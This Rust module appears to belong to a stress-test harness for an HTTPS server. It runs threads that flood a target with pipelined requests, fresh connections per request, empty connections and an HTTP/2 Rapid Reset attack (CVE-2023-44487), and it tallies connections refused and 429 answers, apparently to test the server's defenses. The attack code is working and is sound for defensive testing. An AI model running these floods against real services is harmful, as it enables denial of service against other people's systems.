//! One network at full speed: kept connections full of requests, a new connection for each request, streams that are reset, and
//! connections for nothing at all.

use std::net::{IpAddr, SocketAddr};
use std::ops::AddAssign;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use super::{Siege, address, step_back};
use crate::h2::{END_STREAM, H2Frames, RST_STREAM};
use crate::raw::{RawClient, Tls, connect};

/// Requests that are sent before an answer is read.
const AT_ONCE: usize = 50;
/// An abuser does not wait for long.
const PATIENCE: Duration = Duration::from_millis(500);

/// What attackers got done.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Harm {
    /// Connections that were opened.
    pub connections: u64,
    /// Of these, the ones that were ended before anything was said on them.
    pub turned_away: u64,
    /// Answers with 429.
    pub refused: u64,
    /// Any other answer.
    pub answered: u64,
    /// Streams that were reset.
    pub reset: u64,
}

impl AddAssign for Harm {
    fn add_assign(&mut self, other: Self) {
        self.connections += other.connections;
        self.turned_away += other.turned_away;
        self.refused += other.refused;
        self.answered += other.answered;
        self.reset += other.reset;
    }
}

/// Running attackers.
pub(super) struct Abusers {
    is_over: Arc<AtomicBool>,
    threads: Vec<JoinHandle<Harm>>,
}

type Attack = fn(&Target, &mut Harm);

const ATTACKS: [Attack; 4] = [pipeline, connection_each, reset_streams, empty_connections];

struct Target {
    https: SocketAddr,
    host: String,
    authority: String,
    tls: Tls,
    request: String,
    from: IpAddr,
}

impl Abusers {
    /// Every address attacks in every way at once.
    pub(super) fn start(siege: &Siege) -> Self {
        let is_over = Arc::new(AtomicBool::new(false));
        let all = (0..siege.abusers).flat_map(|number| ATTACKS.iter().map(move |attack| (number, *attack)));
        let threads = all.map(|(number, attack)| {
            let target = Target {
                https: siege.https,
                host: siege.host().to_owned(),
                authority: siege.authority.clone(),
                tls: Tls::to(siege.host()),
                request: siege.request(),
                from: address(2, number + 1),
            };
            let is_over = is_over.clone();
            std::thread::spawn(move || {
                step_back();
                let mut harm = Harm::default();
                while !is_over.load(Ordering::Relaxed) {
                    attack(&target, &mut harm);
                }
                harm
            })
        });
        Self { threads: threads.collect(), is_over }
    }

    /// Ends them.
    pub(super) fn stop(self) -> Harm {
        self.is_over.store(true, Ordering::Relaxed);
        let mut harm = Harm::default();
        for thread in self.threads {
            harm += thread.join().expect("an attacker reports");
        }
        harm
    }
}

fn open(target: &Target, harm: &mut Harm) -> Option<RawClient> {
    harm.connections += 1;
    let client = RawClient::tls(target.https, target.from, &target.tls).ok();
    harm.turned_away += u64::from(client.is_none());
    let client = client?;
    client.set_patience(PATIENCE);
    Some(client)
}

fn note(status: Option<u16>, harm: &mut Harm) -> bool {
    match status {
        Some(429) => harm.refused += 1,
        Some(_) => harm.answered += 1,
        None => {}
    }
    status.is_some()
}

/// As many requests as a connection carries, many at a time.
fn pipeline(target: &Target, harm: &mut Harm) {
    let Some(mut client) = open(target, harm) else { return };
    let many = target.request.repeat(AT_ONCE);
    while client.try_send(many.as_bytes()).is_ok() {
        for _ in 0..AT_ONCE {
            if !note(client.read_reply().ok().map(|reply| reply.status), harm) {
                return;
            }
        }
    }
}

fn connection_each(target: &Target, harm: &mut Harm) {
    let Some(mut client) = open(target, harm) else { return };
    if client.try_send(target.request.as_bytes()).is_ok() {
        note(client.read_reply().ok().map(|reply| reply.status), harm);
    }
}

/// Rapid Reset (CVE-2023-44487).
fn reset_streams(target: &Target, harm: &mut Harm) {
    harm.connections += 1;
    let Ok(mut h2) = H2Frames::connect(target.https, target.from, &target.host) else {
        harm.turned_away += 1;
        return;
    };
    let fields = [(":method", "GET"), (":scheme", "https"), (":authority", &*target.authority), (":path", "/")];
    for _ in 0..AT_ONCE {
        let stream = h2.open();
        h2.headers(stream, &fields, END_STREAM);
        h2.send(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        harm.reset += 1;
    }
}

fn empty_connections(target: &Target, harm: &mut Harm) {
    for _ in 0..AT_ONCE {
        harm.connections += 1;
        harm.turned_away += u64::from(connect(target.https, target.from).is_err());
    }
}
